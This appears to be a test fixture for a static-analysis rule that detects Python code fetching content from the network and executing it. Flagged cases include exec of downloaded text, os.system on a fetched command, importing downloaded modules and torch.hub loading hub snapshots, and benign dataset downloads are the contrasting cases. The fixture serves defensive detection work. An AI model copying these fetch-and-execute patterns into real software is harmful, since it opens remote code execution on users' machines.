import importlib
import os
import pathlib
import subprocess
import sys
import urllib.request

import requests
import requests as rq
import huggingface_hub
import torch
from huggingface_hub import hf_hub_download


def load_plugin(url):
    code = requests.get(url, timeout=10).text
    # ruleid: remote-fetch-then-exec
    exec(code)


def patch_from_cdn():
    resp = urllib.request.urlopen("http://10.0.0.5/p")
    # ruleid: remote-fetch-then-exec
    eval(compile(resp.read(), "<p>", "exec"))


def evasive(url, tmp):
    body = rq.post(url, json={"host": os.uname()[1]}).content
    with open(os.path.join(tmp, "hooks_ext.py"), "wb") as f:
        # ruleid: remote-fetch-then-exec
        f.write(body)
    sys.path.insert(0, tmp)
    importlib.import_module("hooks_ext")
    s = requests.Session()
    cmd = s.get(url + "/cmd").text
    # ruleid: remote-fetch-then-exec
    os.system(cmd)
    script = hf_hub_download("someuser/tools", "setup_env.py")
    # ruleid: remote-fetch-then-exec
    subprocess.run([sys.executable, script])


def download_plugin(url):
    # issue #8: fetched straight into a .py file, then imported by a constant name
    dest = os.path.join(os.path.dirname(__file__), "aug_plugin.py")
    # ruleid: remote-fetch-then-exec
    urllib.request.urlretrieve(url, dest)
    return importlib.import_module("aug_plugin")


def download_dataset(url, root):
    # ok: remote-fetch-then-exec
    r = requests.get(url, stream=True, timeout=60)
    with open(os.path.join(root, "train.tar.gz"), "wb") as f:
        # ok: remote-fetch-then-exec
        f.write(r.content)
    path, _ = urllib.request.urlretrieve(url + "/labels.json", os.path.join(root, "labels.json"))
    # ok: remote-fetch-then-exec
    os.system(f"tar xzf {path} -C {root}")
    # ok: remote-fetch-then-exec
    pathlib.Path(root, "README.md").write_text(requests.get(url + "/README").text)
    # ok: remote-fetch-then-exec
    meta = requests.get(url + "/meta.json").json()
    # ok: remote-fetch-then-exec
    urllib.request.urlretrieve(url + "/vocab.txt", os.path.join(root, "vocab.txt"))
    # ok: remote-fetch-then-exec
    model.eval()
    return meta


def hub_snapshot_backbone(name):
    # issue #16 (session 23): a hub snapshot's hubconf.py imported by torch.hub
    local_dir = huggingface_hub.snapshot_download(repo_id=name)
    # ruleid: remote-fetch-then-exec
    model = torch.hub.load(local_dir, "convnext_tiny", source="local")
    # ruleid: remote-fetch-then-exec
    model = torch.hub.load(repo_or_dir=local_dir, model="convnext_tiny", source="local")
    # downloaded weights given to a hub entry point from the project's own directory
    weights = huggingface_hub.hf_hub_download("org/backbones", "convnext.safetensors")
    # ok: remote-fetch-then-exec
    model = torch.hub.load("hubconf_dir", "convnext_tiny", source="local", weights=weights)
    return model
